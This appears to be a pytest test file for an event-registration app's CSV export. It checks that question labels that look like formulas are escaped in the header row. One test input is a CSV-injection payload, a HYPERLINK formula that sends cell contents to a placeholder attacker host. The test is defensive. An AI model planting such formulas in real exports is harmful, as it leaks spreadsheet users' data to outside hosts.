"""registrations.csv neutralises its header like its cells: a question label is typed by an organiser and must
not run as a formula in a spreadsheet (issue 10, defect 11)."""

from __future__ import annotations

import csv
import io

import pytest

from eventhub.registration.export import registrations_csv
from eventhub.registration.questions import add_question
from eventhub.registration.services import register_invitee


@pytest.mark.parametrize("label", ['=HYPERLINK("http://evil.example/?x="&A2,"Click")', "+1+1", "-2+3", "@SUM(1)"])
def test_a_question_label_that_looks_like_a_formula_is_text_in_the_header(conference, invite, now, label):
    event = conference()
    question = add_question(event, "short_text", label)
    invitation, _ = invite(event, "mette@kk.dk", "Mette")
    register_invitee(invitation, "Mette", None, {question.field_name: "Svar"}, now)
    header, row = list(csv.reader(io.StringIO(registrations_csv(event).removeprefix("\ufeff"))))
    assert header[-1] == "'" + label and row[-1] == "Svar"
    assert header[:3] == ["email", "name", "organisation"]
